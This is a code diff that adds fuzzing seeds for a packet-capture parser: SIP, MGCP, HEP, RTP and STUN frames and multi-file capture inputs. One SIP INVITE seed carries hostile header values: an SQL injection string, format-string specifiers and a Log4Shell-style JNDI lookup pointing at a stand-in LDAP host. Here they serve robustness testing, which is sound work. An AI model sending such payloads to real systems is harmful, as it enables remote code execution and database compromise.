@@ -4,7 +4,12 @@ import { join } from 'node:path';
 import { openCapture } from '../../src/capture/reader.ts';
 import { writePcapHeader, writePcapRecord } from '../../src/wire/pcap.ts';
 import { ROOT, SHARED } from '../peers.ts';
+import { frameZoo, hep3, hepBasics, hepChunk, pcapOf, segment, sipMessage, streamZoo } from '../traces/make-links.ts';
+import { LARGEST } from './mutate.ts';
 
+/** Between two files of one input of target `capture`. */
+export const SEPARATOR: Buffer = Buffer.from('\n--next file--\n');
+const RAW = { linkType: 101 };
 /** Most payloads taken from one capture, and files from the shared captures, so that start-up stays short. */
 const PER_CAPTURE = 40;
 const LARGEST_CAPTURE = 600_000;
@@ -54,6 +59,20 @@ const WRITTEN: readonly Buffer[] = [
     'Date: Sat, 13 Nov 2010 23:29:00 GMT',
     'Retry-After: 18000;duration=3600',
   ),
+  message(
+    'INVITE sip:bob@example.com SIP/2.0',
+    'Via: SIP/2.0/UDP 192.0.2.4;branch=z9hG4bK-ZXhmaWx0cmF0ZSBtZQ',
+    'From: "<sip:x@y>" <sip:o%27or%271=1--@example.com>;tag=1;tag=2',
+    'To: <sip:a@b@c>, <sip:%s%s%n@d>',
+    'Call-ID: 1',
+    'i: 2',
+    'CSeq: 1 INVITE',
+    'X-Api: \x24{jndi:ldap://192.0.2.66/a}',
+    'Identity: eyJhbGciOiJFUzI1NiJ9.eyJhdHRlc3QiOiJBIiwiaWF0IjoxLCJvcmlnIjp7InRuIjoiMSJ9fQ.c2ln;info=<https://a>;alg=ES256;ppt=shaken',
+    'Content-Length: 5x',
+  ),
+  Buffer.from('CRCX 1204 aaln/1@gw MGCP 1.0\r\nC: A3\r\nI: FD\r\n\r\nv=0\r\n.\r\n200 1203 OK\r\nP: PS=1, PR=2\r\n'),
+  Buffer.from('0300001a0802123405700681393234363a7e0003052000', 'hex'),
   // RTP, STUN, keep-alives.
   Buffer.from('80080001000000a0deadbeefd5d5d5d5d5d5d5d5', 'hex'),
   Buffer.from('000100002112a442000102030405060708090a0b', 'hex'),
@@ -74,7 +93,21 @@ export function captureSeeds(): Buffer[] {
   const small = sharedCaptures().flatMap((path) => smallFile(path, LARGEST_FILE_SEED));
   const heads = sharedCaptures().map((path) => readFileSync(path).subarray(0, 3000));
   const sample = readFileSync(join(ROOT, 'samples', 'attack-day.pcap')).subarray(0, 4000);
-  return [...small, ...heads, sample, fragments()];
+  return [...small, ...heads, sample, fragments(), ...written()];
+}
+
+/** Captures made for tests: frames of every link and tunnel, streams of every kind, HEP, several files in one input. */
+function written(): Buffer[] {
+  const hep = hep3(...hepBasics(), hepChunk(15, Buffer.from(sipMessage('hep'))));
+  const agent = pcapOf(
+    [segment(1, Buffer.concat([hep, hep.subarray(0, 40)]), 0, 9060), segment(1 + hep.length + 40, hep.subarray(40), 0, 9060)],
+    RAW,
+  );
+  const conflict = pcapOf([segment(1, sipMessage('one')), segment(1, sipMessage('two')), segment(40, sipMessage('three'))], RAW);
+  const streams = streamZoo();
+  const zoo = frameZoo();
+  const two = [fragments(), SEPARATOR, agent, SEPARATOR, conflict];
+  return [zoo.subarray(0, LARGEST), zoo.subarray(0, 8000), streams, streams.subarray(0, 3000), agent, conflict, Buffer.concat(two)];
 }
 
 /** Every capture of moderate size in the shared folder; none where it is absent. */
